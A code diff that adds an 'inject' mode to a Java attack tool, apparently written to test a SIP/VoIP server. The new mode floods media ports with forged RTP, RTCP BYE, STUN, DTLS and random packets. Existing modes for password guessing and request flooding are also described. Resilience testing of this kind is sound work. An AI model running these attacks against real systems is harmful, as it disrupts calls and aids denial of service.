@@ -6,12 +6,14 @@ import java.net.DatagramSocket;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.net.SocketTimeoutException;
+import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.security.GeneralSecurityException;
 import java.security.MessageDigest;
 import java.util.ArrayList;
 import java.util.HexFormat;
 import java.util.List;
+import java.util.Random;
 import java.util.concurrent.TimeUnit;
 import java.util.concurrent.locks.LockSupport;
 import java.util.regex.Pattern;
@@ -19,12 +21,15 @@ import java.util.regex.Pattern;
 /**
  * {@code guess HOST PORT USER COUNT [RIGHT]}: guesses passwords as a client would, each with a fresh nonce, the last one right; prints the
  * status of each answer. {@code flood HOST PORT METHOD RATE SECONDS ADDRESS...}: requests at that rate from these addresses; prints how many
- * were sent. One thread.
+ * were sent. {@code inject HOST PORT SECONDS SSRC SEQUENCE MORE_PORTS}: packets to media ports, of the stream that goes there and of all
+ * other kinds; prints how many were sent and how many came back. One thread.
  */
 public final class AttackProgram {
     private static final Pattern NONCE = Pattern.compile("nonce=\"([^\"]*)\"");
     private static final Pattern REALM = Pattern.compile("realm=\"([^\"]*)\"");
     private static final int PATIENCE_MS = 6_000;
+
+    private static final int INJECTED_A_SECOND = 1_000;
 
     private final InetSocketAddress target;
     private int number;
@@ -47,6 +52,15 @@ public final class AttackProgram {
                         Integer.parseInt(arguments[4]),
                         Integer.parseInt(arguments[5]),
                         List.of(arguments).subList(6, arguments.length));
+            case "inject" -> {
+                var ports = new ArrayList<>(List.of(arguments).subList(6, arguments.length));
+                ports.add(arguments[2]);
+                attack.inject(
+                        Integer.parseInt(arguments[3]),
+                        Long.parseLong(arguments[4]),
+                        Integer.parseInt(arguments[5]),
+                        ports.stream().map(Integer::valueOf).toList());
+            }
             default -> throw new IllegalArgumentException(arguments[0]);
         }
     }
@@ -100,6 +114,58 @@ public final class AttackProgram {
         }
         System.out.println("sent " + sent + " in " + seconds + " s");
         sockets.forEach(DatagramSocket::close);
+    }
+
+    private void inject(int seconds, long source, int sequence, List<Integer> ports) throws IOException {
+        var random = new Random(1);
+        try (var socket = new DatagramSocket()) {
+            System.out.println("injecting");
+            long begin = System.nanoTime();
+            long end = begin + TimeUnit.SECONDS.toNanos(seconds);
+            int sent = 0;
+            while (System.nanoTime() < end) {
+                long due = (System.nanoTime() - begin) * INJECTED_A_SECOND / TimeUnit.SECONDS.toNanos(1);
+                for (; sent < due; sent++) {
+                    byte[] bytes = mediaPacket(sent, source, sequence, random);
+                    var to = new InetSocketAddress(target.getAddress(), ports.get(sent % ports.size()));
+                    socket.send(new DatagramPacket(bytes, bytes.length, to));
+                }
+                LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(1));
+            }
+            socket.setSoTimeout(500);
+            int back = 0;
+            try {
+                while (true) {
+                    socket.receive(new DatagramPacket(new byte[2_048], 2_048));
+                    back++;
+                }
+            } catch (SocketTimeoutException silence) {
+                System.out.println("sent " + sent + ", came back " + back);
+            }
+        }
+    }
+
+    /** In turn: the stream's next packet, another stream's, RTCP BYE for it, a STUN request, a DTLS hello, rubbish of every length. */
+    private static byte[] mediaPacket(int number, long source, int sequence, Random random) {
+        if (number % 6 == 5) {
+            byte[] rubbish = new byte[random.nextInt(1_472)];
+            random.nextBytes(rubbish);
+            return rubbish;
+        }
+        var packet = ByteBuffer.allocate(172);
+        random.nextBytes(packet.array());
+        switch (number % 6) {
+            case 0, 1 -> {
+                packet.put((byte) 0x80).put((byte) (number % 5 == 0 ? 8 : 0));
+                packet.putShort((short) (sequence + number / 12)).putInt(number * 160);
+                packet.putInt((int) (number % 6 == 0 ? source : random.nextInt()));
+            }
+            case 2 ->
+                packet.put((byte) 0x81).put((byte) 203).putShort((short) 1).putInt((int) source);
+            case 3 -> packet.putShort((short) 1).putShort((short) 152).putInt(0x2112A442);
+            default -> packet.put((byte) 22).putShort((short) 0xFEFD);
+        }
+        return packet.array();
     }
 
     private String request(String method, String user, String callId, int cseq, DatagramSocket socket, String more) {
